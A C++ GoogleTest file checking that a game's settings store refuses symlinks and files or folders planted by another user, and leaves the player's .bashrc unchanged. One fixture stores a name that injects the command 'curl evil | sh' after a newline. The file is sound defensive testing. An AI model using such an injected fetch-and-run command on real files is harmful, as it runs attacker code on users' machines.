// Another user who can write into the folder of the player's settings file must not be able
// to turn the player's save into a write into the player's other files, nor feed the player
// results of their own. Played as two users: the tests' own user and "nobody" (uid 65534).

#include "StoreTestFiles.h"

#include "store/disk/SettingsFile.h"

#include <QDir>
#include <QFileInfo>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <functional>
#include <ostream>
#include <stdexcept>
#include <unistd.h>

namespace {

constexpr uid_t Nobody = 65534;

class OtherUserTest : public testing::Test {
protected:
    void SetUp() override {
        // Only root can both act as another user and hand files over to one.
        if (::geteuid() != 0)
            GTEST_SKIP() << "needs root to play a second user";
        ASSERT_TRUE(root.isValid());
        SetMode(root.path(), 0755);
        shared = root.filePath(QStringLiteral("shared"));
        home = root.filePath(QStringLiteral("home"));
        ASSERT_TRUE(QDir().mkdir(shared));
        ASSERT_TRUE(QDir().mkdir(home));
        SetMode(shared, 0777); // a shared portable folder, or a careless XDG_CONFIG_HOME
        SetMode(home, 0700);
        path = shared + QStringLiteral("/tavrik.ini");
        bashrc = home + QStringLiteral("/.bashrc");
        WriteBytes(bashrc, bashrcBytes);
    }

    QTemporaryDir root;
    QString shared, home, path, bashrc;
    const QByteArray bashrcBytes = "alias ll='ls -l'\n";
};

StoredSettings WithCommandInName() {
    StoredSettings settings;
    settings.Results.Name = QStringLiteral("x\ncurl evil | sh");
    return settings;
}

TEST_F(OtherUserTest, LinkPlantedByAnotherUserIsNeitherReadNorWritten) {
    SaveSettings(path, StoredSettings()); // the player's own file, from an earlier run

    // While the game runs, the other user swaps the file for a link to the player's .bashrc.
    const QByteArray target = QFile::encodeName(bashrc);
    const QByteArray link = QFile::encodeName(path);
    ASSERT_TRUE(RunWithPermissionsInForce(
        [&] { return ::unlink(link.constData()) == 0 && ::symlink(target, link) == 0; }));
    ASSERT_TRUE(QFileInfo(path).isSymLink());

    EXPECT_EQ(LoadSettings(path), StoredSettings());
    EXPECT_THROW(SaveSettings(path, WithCommandInName()), std::runtime_error);
    EXPECT_EQ(ReadBytes(bashrc), bashrcBytes);
    EXPECT_TRUE(QFileInfo(path).isSymLink());
}

// Results another user made for the player: refused, not read and not written.
struct ForeignCase {
    const char* name;
    friend void PrintTo(const ForeignCase& c, std::ostream* os) { *os << c.name; }
    bool folderForeign; // otherwise the file is the other user's
};

class ForeignOwnerTest : public OtherUserTest, public testing::WithParamInterface<ForeignCase> {};

TEST_P(ForeignOwnerTest, IsRefused) {
    const QString folder = home + QStringLiteral("/huszonegy");
    ASSERT_TRUE(QDir().mkdir(folder));
    const QString file = folder + QStringLiteral("/tavrik.ini");
    const QByteArray planted = "[Results]\r\nMoney1=999999\r\n";
    WriteBytes(file, planted);
    SetMode(file, 0666);
    const QString handedOver = GetParam().folderForeign ? folder : file;
    ASSERT_EQ(::chown(QFile::encodeName(handedOver).constData(), Nobody, Nobody), 0);

    EXPECT_EQ(LoadSettings(file), StoredSettings());
    EXPECT_THROW(SaveSettings(file, StoredSettings()), std::runtime_error);
    EXPECT_EQ(ReadBytes(file), planted);
}

INSTANTIATE_TEST_SUITE_P(Owners, ForeignOwnerTest,
                         testing::Values(ForeignCase{"Folder", true}, ForeignCase{"File", false}),
                         [](const testing::TestParamInfo<ForeignCase>& info) {
                             return info.param.name;
                         });

TEST_F(OtherUserTest, PortableFolderOfAnotherUserKeepsNoResultsOfThePlayer) {
    ASSERT_EQ(::chown(QFile::encodeName(shared).constData(), Nobody, Nobody), 0);
    const QByteArray savedXdg = qgetenv("XDG_CONFIG_HOME");
    qputenv("XDG_CONFIG_HOME", QFile::encodeName(home));
    const QString chosen = SettingsFilePath(shared);
    qputenv("XDG_CONFIG_HOME", savedXdg);
    EXPECT_EQ(chosen, home + QStringLiteral("/huszonegy/tavrik.ini"));
}

} // namespace
